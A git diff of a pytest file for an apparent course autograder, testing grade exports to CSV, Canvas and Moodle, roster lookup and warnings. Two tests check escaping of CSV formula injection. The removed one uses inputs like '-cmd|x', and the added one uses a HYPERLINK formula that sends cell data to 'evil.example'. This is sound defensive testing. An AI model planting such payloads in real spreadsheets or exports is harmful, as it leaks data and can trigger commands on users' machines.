@@ -10,7 +10,7 @@ from nbgrader.api import Gradebook
 
 from autograder.grading import export, report, roster
 from autograder.grading.gradebook import database
-from autograder.grading.grades import grades, to_grade_by_hand
+from autograder.grading.grades import Grade, Row, Table, grades, to_grade_by_hand
 from tests.autograder.grading.conftest import NAME
 from tests.autograder.quick_judge import CALLED, RIGHT, WRONG
 from tests.autograder.small_lesson import LESSON
@@ -29,7 +29,7 @@ ROSTER = (
 def people(course):
     (course / "roster.csv").write_text(ROSTER)
     (course / "grading.toml").write_text('roster = "roster.csv"\n')
-    return {person.id: person for person in roster.read(course / "roster.csv")}
+    return roster.read(course / "roster.csv").by_id()
 
 
 @pytest.fixture
@@ -60,17 +60,22 @@ def test_the_table_has_everybody_in_the_order_of_names(table):
     ana, ben, zoe = (row.grades[NAME] for row in table.rows)
     assert (ana.score, ana.by_hand, ana.handed_in) == (5.875, 1, True)
     assert (ben.score, ben.penalty) == (2.5, 1.0)
-    assert (zoe.score, zoe.handed_in) == (0.0, False)
+    assert (zoe.score, zoe.handed_in) == (None, False)
+    assert table.missing_as_zero().rows[2].grades[NAME].score == 0.0
     assert to_grade_by_hand([LESSON]) == 1
     assert grades([lesson(3)]).rows == []
 
 
 def test_the_plain_table_says_everything(table, people):
-    ana, ben, _ = rows(export.as_csv(table, people, {}))
+    ana, ben, zoe = rows(export.as_csv(table, people, {}))
     assert ana["student"] == "ana"
     assert (ana["first_name"], ana["last_name"]) == ("Ana", "Díaz")
     assert (ana[NAME], ana[f"{NAME} ungraded answers"], ana["of"]) == ("5.875", "1", "10.5")
     assert (ben[NAME], ben[f"{NAME} late penalty"], ben["total"]) == ("2.5", "1", "2.5")
+    assert [zoe[name] for name in (NAME, f"{NAME} late penalty", "total", "of")] == [
+        *("", "", ""),
+        "10.5",
+    ]
 
 
 def test_canvas_finds_its_students_and_the_points_possible(table, people):
@@ -104,20 +109,52 @@ def test_moodle_maps_ids_names_and_addresses(table, people):
     }
 
 
+@pytest.mark.parametrize(("form", "nothing"), [("csv", ""), ("canvas", ""), ("moodle", "-")])
+def test_who_handed_in_nothing_has_no_grade_and_is_counted(table, people, form, nothing):
+    def last(of):
+        return list(rows(export.FORMATS[form](of, people, {NAME: NAME}))[-1].values())
+
+    assert nothing in last(table)[4:]
+    assert "0" not in last(table)
+    assert "0" in last(table.missing_as_zero())
+    told = f"{NAME}: 1 of 3 students handed in nothing that could be graded, and have "
+    assert export.warnings(table, people, form)[1].startswith(f"{told}no grade here")
+    assert export.warnings(table.missing_as_zero(), people, form)[1] == f"{told}0"
+
+
+@pytest.mark.parametrize(
+    ("columns", "given", "by", "ids", "warned"),
+    [
+        ("ID number,Username", ["1,ana", "2,ben", "3,zoe"], "ID number", ["1", "2", "3"], False),
+        (
+            "ID number,Username",
+            ["1,ana", ",ben", "3,zoe"],
+            "Username",
+            ["ana", "ben", "zoe"],
+            False,
+        ),
+        ("ID number,Username", ["1,", ",ben", "3,zoe"], "ID number", ["1", "", "3"], True),
+        ("id,Username", ["1,ana", "2,ben", "3,zoe"], "Username", ["ana", "ben", "zoe"], False),
+        ("id", ["1", "2", "3"], "ID number", ["1", "2", "3"], False),
+    ],
+)
+def test_moodle_finds_everybody_by_one_column(course, columns, given, by, ids, warned):
+    (course / "roster.csv").write_text("\n".join([columns, *given]))
+    people = roster.read(course / "roster.csv").by_id()
+    table = Table({NAME: 1.0}, [Row(id, "", "", "", {NAME: Grade(1.0)}) for id in people])
+    assert [row[by] for row in rows(export.as_moodle(table, people, {}))] == ids
+    told = " ".join(export.warnings(table, people, "moodle"))
+    assert ("by Email address" in told) == warned
+
+
 def test_answers_that_nobody_graded_are_warned_of(table, people):
-    (warning,) = export.warnings(table, people, "canvas")
+    warning, _ = export.warnings(table, people, "canvas")
     assert "1 written answers of 1 students are not graded yet" in warning
     assert (
         "not on the roster: ana, ben, zoe"
         in export.warnings(table, {"yan": roster.Person("yan")}, "csv")[-1]
     )
     assert "without a roster" in export.warnings(table, {}, "moodle")[-1]
-
-
-@pytest.mark.parametrize("text", ["=1+1", "+1+1", "-cmd|x", "@SUM(A1)", "\tx"])
-def test_no_name_is_a_formula(text):
-    (row,) = csv.reader(io.StringIO(export._written([[text, -1.5, "-3.5"]])))
-    assert row == [f"'{text}", "-1.5", "-3.5"]
 
 
 # ---- the report --------------------------------------------------------------------------------
@@ -158,6 +195,16 @@ def test_the_csv_has_a_row_for_each_outcome(counted):
     }
     assert (found[1]["outcome"], found[1]["students"]) == ("the second forgotten", "2")
     assert found[1]["message"] == "Mind the second."
+
+
+def test_a_students_words_are_no_formula_in_the_csv(counted):
+    formula = '=HYPERLINK("http://evil.example/?"&A1)'
+    counted.exercises[0].mistakes[0].name = formula
+    counted.exercises[0].mistakes[0].message = "+1\ud83d"
+    text = counted.csv()
+    assert rows(text)[1]["outcome"] == f"'{formula}"
+    assert rows(text)[1]["message"].startswith("'+1")
+    text.encode()
 
 
 class Page(HTMLParser):
